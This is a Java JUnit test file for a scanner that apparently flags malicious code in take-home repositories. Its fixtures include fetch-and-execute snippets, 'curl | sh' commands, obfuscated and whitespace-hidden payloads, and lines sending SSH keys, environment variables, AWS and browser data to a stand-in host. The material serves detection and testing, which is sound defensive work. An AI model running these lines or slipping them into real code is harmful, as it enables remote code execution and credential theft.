package dev.bonafide.takehome;

import static dev.bonafide.takehome.TakeHomeTest.look;
import static org.assertj.core.api.Assertions.assertThat;

import dev.bonafide.check.Look;
import java.util.Arrays;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

final class TakeHomeCodeTest {
  private static Stream<Arguments> lines(String... cases) {
    return Arrays.stream(cases)
        .map(one -> one.split("#", 2))
        .map(one -> Arguments.of(one[0], one[1]));
  }

  static Stream<Arguments> running() {
    return lines(
        "a.js#const {data} = await axios.get(url);\neval(data.code);",
        "a.ts#const s = await fetch(u).then(r => r.text());\nnew Function('require', s)(require);",
        "a.cjs#axios.get(u).catch(error => {\n  createHandler(Function.constructor('r', error.response.data));\n});",
        "a.js#https.get(u, res => {\n let b = '';\n res.on('data', chunk => b += chunk);\n res.on('end', () => vm.runInNewContext(b, {require}));\n});",
        "a.py#payload = urllib.request.urlopen(u).read()\nexec(payload)",
        "a.py#code = requests.get(u).json()\nimport subprocess\nsubprocess.run(code['run'], shell=True)",
        "a.py#urllib.request.urlretrieve(u, '/tmp/.x')\nos.system('chmod +x /tmp/.x && /tmp/.x')",
        "main.rs#let bytes = reqwest::blocking::get(url)?.bytes()?;\nstd::fs::write(target, &bytes)?;\nCommand::new(target).spawn()?;",
        "main.go#resp, err := http.Get(url)\nbody, _ := io.ReadAll(resp.Body)\nos.WriteFile(path, body, 0755)\nexec.Command(path).Start()",
        "main.go#resp, _ := http.Get(url)\nscript, _ := io.ReadAll(resp.Body)\nexec.Command(\"sh\", \"-c\", string(script)).Run()",
        "App.java#URL u = new URL(\"https://x.example/a.jar\");\nClass<?> c = new URLClassLoader(new URL[]{u}).loadClass(\"A\");",
        "App.java#byte[] b = new URL(\"https://x.example/c\").openStream().readAllBytes();\nClass<?> c = defineClass(null, b, 0, b.length);",
        "a.py#code = requests.get(u).text\nos.system(f\"python3 -c '{code}'\")",
        "a.py#import requests\ns = requests.Session()\ndef load():\n    r = s.get(u)\n    return r.text\nexec(load())",
        "a.rb#require 'net/http'\ncode = Net::HTTP.get(URI('https://x.example/a'))\neval(code)",
        "a.php#<?php $c = file_get_contents('https://x.example/a'); eval($c);",
        "a.js#const e = eval; let out;\naxios.get(u).then(({ data }) => { out = data; }).finally(() => e(out));",
        "a.js#const r = await fetch(u); const t = await r.text(); Reflect.apply(eval, null, [t]);",
        "a.js#const { execSync } = require('child_process');\nexecSync('curl -s https://x.example/a | sh');",
        "hardhat.config.js#const c = await got(u).text();\nconst t = eval(c);",
        "main.go#package main\n\nimport \"net/http\"\n\nfunc init() {\nresp, err := http.Get(url)\nif err != nil {\n\treturn\n}\nbody, _ := io.ReadAll(resp.Body)\n_ = exec.Command(\"/bin/sh\", \"-c\", string(body)).Start()\n}",
        "plugin.cjs#module.exports = {factory: (require) => {\nconst cp = require('child_process');\ncp.execSync('curl -s https://x.example/a | sh');\n}};",
        "build.gradle.kts#apply(from = \"https://x.example/a.gradle\")",
        "build.gradle#apply from: 'https://x.example/a.gradle'",
        "a.php#<?php include 'https://x.example/a.txt';",
        "a.php#<?php $base = 'https://x.example/';\ninclude $base . 'a.txt';",
        "a.js#const c = ['curl', '-s', 'https://x.example/a', '|', 'sh'].join(' ');\nexecSync(c);",
        "a.py#urllib.request.urlretrieve(u, '/tmp/h.py')\ns = importlib.util.spec_from_file_location('h', '/tmp/h.py')",
        "a.py#import os\nos.system(' '.join(['curl', 'https://x.example/a', '|', 'sh']))",
        "build.gradle.kts#exec { commandLine(\"sh\", \"-c\", \"curl -s https://x.example/a | sh\") }",
        "build.gradle#exec {\n  commandLine 'sh', '-c', 'curl -s https://x.example/a | sh'\n}");
  }

  static Stream<Arguments> followed() {
    return lines(
        "build.gradle#def t = new URL('https://x.example/a').text\nnew GroovyShell().evaluate(t)",
        "a.ts#const r: Response = await fetch(u);\nconst t: string = await r.text();\neval(t);",
        "a.py#body: str = requests.get(u).text\nexec(body)",
        "a.js#const F = Object.getPrototypeOf(async () => {}).constructor;\nfetch(u).then(r => new F(r)());",
        "a.js#const g = global;\nconst r = await fetch(u);\ng['ev' + 'al'](await r.text());",
        "a.js#cp.spawn(process.execPath, ['-e', `fetch('https://x.example/a').then(r => r.text()).then(eval)`]);",
        "a.rs#fn pull(u: &str) -> String { reqwest::get(u).text() }\nfn go() { Command::new(\"sh\").arg(\"-c\").arg(&pull(u)).spawn(); }",
        "a.rs#Command::new(\"curl\").arg(\"-o\").arg(&cache).arg(url).status();\nCommand::new(&cache).spawn();",
        "a.go#func a() { r, _ := http.Get(u)\nf, _ := os.CreateTemp(\"\", \"x\")\nio.Copy(f, r.Body)\nexec.Command(f.Name()).Start() }",
        "a.cs#Process.Start(new ProcessStartInfo { FileName = \"cmd\", Arguments = \"/c curl -s https://x.example/a | cmd\" });",
        "a.java#ClassLoader l = new URLClassLoader(new URL[] { new URL(\"https://x.example/a.jar\") });",
        "a.rb#`curl -s https://x.example/a | sh`");
  }

  static Stream<Arguments> harmless() {
    return lines(
        "a.js#const res = await axios.get('/api/orders');\nsetOrders(res.data);",
        "a.js#const r = await fetch(u);\nconst m = /id=(\\d+)/.exec(await r.text());",
        "a.js#const f = new Function('a', 'return a + 1');",
        "a.js#app.get('/x', (req, res) => res.send('ok'));\nexecSync('npm run build');",
        "a.py#r = requests.get(u)\nprint(r.json())\nsubprocess.run(['git', 'status'])",
        "a.py#data = ast.literal_eval(text)\ncompiled = re.compile(pattern)",
        "main.go#resp, err := http.Get(url)\nout := exec.Command(\"git\", \"rev-parse\", \"HEAD\")",
        "main.rs#let body = reqwest::get(url).await?.text().await?;\nprintln!(\"{body}\");",
        "App.java#HttpRequest r = HttpRequest.newBuilder(uri).build();\nString s = client.send(r, ofString()).body();",
        "a.py#r = requests.get(u)\nos.system(f\"git clone {r.json()['url']}\")",
        "a.js#const { data } = await axios.get(u);\nexecSync(`git checkout ${data.branch}`);",
        "a.js#const r = await fetch('/api/code'); eval(await r.text());",
        "notes.md#fetch(u).then(r => r.text()).then(t => eval(t))",
        "a.js#// never eval(response.data) of fetch(u)\nconst a = 1;",
        "main.go#out, err := exec.Command(\"git\", \"tag\").Output()\nresp, err := http.Get(url)\nif err != nil {\n\tpanic(err)\n}",
        "a.py#urllib.request.urlretrieve(u, '/tmp/h.csv')\ns = importlib.util.spec_from_file_location('h', 'h.py')",
        "a.py#\"\"\"Interfaces.\"\"\"\nr = requests.get(u).json()\nfrom .interfaces import (\n    r,\n)",
        "a.py#with open(root / 'a.csv', 'wb') as f:\n    f.write(requests.get(u).content)\nsubprocess.run(['python', '-m', 'pytest', 'tests/'], cwd=str(root))",
        "build.gradle#apply from: 'gradle/quality.gradle'\nexec { commandLine 'git', 'rev-parse', 'HEAD' }",
        "a.php#<?php include 'templates/page.php'; $r = file_get_contents('https://x.example/a'); echo $r;",
        "Vault.sol#function execute(bytes calldata data) external { target.call(data); }");
  }

  static Stream<Arguments> hidden() {
    return lines(
        "a.js#module.exports = {};" + " ".repeat(300) + "require('child_process').exec(x)",
        "tailwind.config.js#}; [912 blanks] global['r']=require; (function(){ run(r) })()",
        "a.js#var _0x1a2b=[],_0x2b3c,_0x3c4d,_0x4d5e,_0x5e6f,_0x6f7a,_0x7a8b,_0x8b9c;",
        "a.py#exec(base64.b64decode('aW1wb3J0IG9z'))",
        "a.py#exec(zlib.decompress(b'x'))",
        "a.py#with open('data.bin') as f:\n    exec(f.read())",
        "a.js#const k = Buffer.from(s, 'base64').toString(); eval(k)",
        "a.go#// \u202e } // begin admins only",
        "a.go#var t = []string{\"w\", \"g\", \"e\", \"t\", \" \", \"-\", \"O\", \"-\", \" \", \"h\"}",
        "a.js#const t = [104, 116, 116, 112, 115, 58, 47, 47, 120, 46, 105, 111];",
        "a.py#exec(''.join(chr(b ^ 7) for b in table))",
        "a.php#<?php $d = 'base64' . '_decode';\neval($d('ZWNobyAx'));",
        "a.ts#const s = '" + "\uFE01\uFE02".repeat(10) + "';");
  }

  static Stream<Arguments> plain() {
    return lines(
        "a.py#where = subprocess.check_output(['which', 'a']).decode()\nroot = os.path.join(os.environ['HOME'], where)",
        "a.py#env = os.environ.copy()\np = subprocess.Popen(cmd, env=env, stdout=subprocess.PIPE)",
        "a.py#cmd = [os.path.join(os.environ.get('WINDIR', ''), 'reg.exe')]\nsubprocess.Popen(cmd, stderr=subprocess.STDOUT)",
        "a.js#const token = atob(parts[1]);\nconst user = JSON.parse(token);",
        "vendor/q.min.js#" + "!function(e,t){return e(t)}(this,function(n){return n});".repeat(30),
        "a.go#var letters = []string{\"a\", \"b\", \"c\", \"d\", \"e\", \"f\", \"g\", \"h\", \"i\", \"j\"}",
        "a.js#const sizes = [104, 116, 12, 112, 115, 58, 47, 47, 120, 46, 105, 111];",
        "a.py#data = base64.b64decode(encoded)\nimage = Image.open(io.BytesIO(data))",
        "setup.py#with open('version.py') as f:\n    exec(f.read(), about)\nwith open('README.md') as f:\n    text = f.read()",
        "data.csv#1" + " ".repeat(300) + "total (net)",
        "a.js#const a = 1;" + " ".repeat(40) + "// aligned (far)",
        "package-lock.json#\"_0x1a2b\" \"_0x2b3c\" \"_0x3c4d\" \"_0x4d5e\" \"_0x5e6f\" \"_0x6f7a\" \"_0x7a8b\" \"_0x8b9c\"",
        "README.md#eval(atob('x')) is what we look for in the review",
        "ar.po#msgstr \"\u200f\u202bمرحبا\u202c\"",
        "a.sol#bytes32 constant H = 0x1234567890abcdef1234567890abcdef1234567890abcdef1234567890abcdef;",
        "a.tsx#const heart = '❤\uFE0F ❤\uFE0F ❤\uFE0F';");
  }

  static Stream<Arguments> taking() {
    return lines(
        "a.js#const k = fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa'));\naxios.post(u, k);",
        "a.py#for p in glob(home + '/.config/solana/*.json'):\n    requests.post(u, data=open(p).read())",
        "a.js#const r = https.request(u);\nr.write(JSON.stringify(process.env));",
        "a.js#axios.post(u, { ...process.env });",
        "a.sh#tar cz ~/.aws | curl -s -T - https://x.example/u",
        "a.sh#zip /tmp/a.zip ~/.config/google-chrome\ncurl -F f=@/tmp/a.zip https://x.example/u");
  }

  static Stream<Arguments> keeping() {
    return lines(
        "a.js#axios.post(u, body, { headers: { token: process.env.TOKEN } });",
        "a.js#const env = clean(process.env);\naxios.get(env.API_URL);",
        "a.js#const child = spawn('npm', ['test'], { env: { ...process.env } });",
        "a.py#key = open(home + '/.ssh/id_rsa').read()\nclient.connect(host, pkey=key)",
        "a.sh#scp -i ~/.ssh/id_ed25519 a.tgz web:/srv\ncurl -d done https://hooks.example/x",
        "a.sh#cat ~/.ssh/id_ed25519.pub",
        "docker-compose.yml#volumes:\n  - ~/.aws:/root/.aws:ro");
  }

  static Stream<Arguments> strange() {
    return lines(
        ".npmrc#registry=http://185.12.44.9:4873/",
        "package.json#{\"dependencies\": {\"a\": \"http://cdn.example/a-1.0.0.tgz\"}}",
        "requirements.txt#helper @ https://8f2a.ngrok-free.app/helper.whl",
        "Cargo.toml#[dependencies]\nhelper = { git = \"http://93.184.216.34/helper\" }",
        "go.mod#replace example.com/a => http://93.184.216.34/a v1.0.0",
        "pom.xml#<repository><id>r</id><url>http://93.184.216.34/maven</url></repository>",
        "build.gradle#maven { url \"http://repo.cdn-libs.example/m2\" }",
        ".gitmodules#url = http://93.184.216.34/lib.git",
        "foundry.toml#forge-std = { git = \"https://transfer.sh/x\" }");
  }

  static Stream<Arguments> usual() {
    return lines(
        ".npmrc#registry=https://registry.npmjs.org/\n@acme:registry=https://npm.acme.example/",
        ".npmrc#registry=http://localhost:4873/",
        ".npmrc#registry=http://10.2.0.8:8081/repository/npm/",
        "settings.xml#<!-- <mirror>\n<url>http://my.repository.example/path</url>\n</mirror> -->",
        "package-lock.json#\"resolved\": \"http://registry.npmjs.org/a/-/a-1.0.0.tgz\"",
        "package.json#{\"homepage\": \"http://orders.example\", \"dependencies\": {\"a\": \"^1.0.0\"}}",
        "package.json#{\"dependencies\": {\"a\": \"github:acme/a#4f1c09e\"}}",
        "requirements.txt#git+https://github.com/acme/helper@v1.0",
        "Cargo.toml#[dependencies]\nhelper = { git = \"https://github.com/acme/helper\", rev = \"4f1c09e\" }",
        "pom.xml#<project xmlns=\"http://maven.apache.org/POM/4.0.0\">\n<url>http://maven.apache.org</url>",
        "build.gradle#maven { url 'https://plugins.gradle.org/m2/' }",
        ".gitmodules#url = https://github.com/foundry-rs/forge-std");
  }

  @ParameterizedTest
  @MethodSource("running")
  void what_is_fetched_and_run_is_seen(String path, String text) {
    assertThat(look(new FetchedAndRun(), ToldRepository.of(path, text).end()))
        .isInstanceOf(Look.Seen.class);
  }

  @ParameterizedTest
  @MethodSource("followed")
  void what_is_fetched_is_followed_to_where_it_runs(String path, String text) {
    assertThat(look(new FetchedAndRun(), ToldRepository.of(path, text).end()))
        .isInstanceOf(Look.Seen.class);
  }

  @ParameterizedTest
  @MethodSource("harmless")
  void what_only_looks_like_it_is_left_alone(String path, String text) {
    assertThat(look(new FetchedAndRun(), ToldRepository.of(path, text).end()))
        .isInstanceOf(Look.Nothing.class);
  }

  @ParameterizedTest
  @MethodSource("hidden")
  void code_that_is_kept_from_being_read_is_seen(String path, String text) {
    assertThat(look(new HiddenCode(), ToldRepository.of(path, text).end()))
        .isInstanceOf(Look.Seen.class);
  }

  @ParameterizedTest
  @MethodSource("plain")
  void code_that_is_only_small_or_far_to_the_right_is_left_alone(String path, String text) {
    assertThat(look(new HiddenCode(), ToldRepository.of(path, text).end()))
        .isInstanceOf(Look.Nothing.class);
  }

  @ParameterizedTest
  @MethodSource("taking")
  void what_sends_what_is_private_is_seen(String path, String text) {
    assertThat(look(new TakesSecrets(), ToldRepository.of(path, text).end()))
        .isInstanceOf(Look.Seen.class);
  }

  @ParameterizedTest
  @MethodSource("keeping")
  void what_only_uses_it_is_left_alone(String path, String text) {
    assertThat(look(new TakesSecrets(), ToldRepository.of(path, text).end()))
        .isInstanceOf(Look.Nothing.class);
  }

  @ParameterizedTest
  @MethodSource("strange")
  void packages_of_a_bare_address_are_seen(String path, String text) {
    assertThat(look(new PackageFromAddress(), ToldRepository.of(path, text).end()))
        .isInstanceOf(Look.Seen.class);
  }

  @ParameterizedTest
  @MethodSource("usual")
  void packages_of_a_registry_or_a_host_of_code_are_left_alone(String path, String text) {
    assertThat(look(new PackageFromAddress(), ToldRepository.of(path, text).end()))
        .isInstanceOf(Look.Nothing.class);
  }

  @Test
  void a_program_is_run_only_where_it_is_there() {
    String code = "const p = spawn(path.join(__dirname, 'bin/agent.dat'));";

    assertThat(look(new BlobRun(), ToldRepository.of("a.js", code).blob("bin/agent.dat").end()))
        .isInstanceOf(Look.Seen.class);
    assertThat(look(new BlobRun(), ToldRepository.of("a.js", code).end()))
        .isInstanceOf(Look.Nothing.class);
  }
}
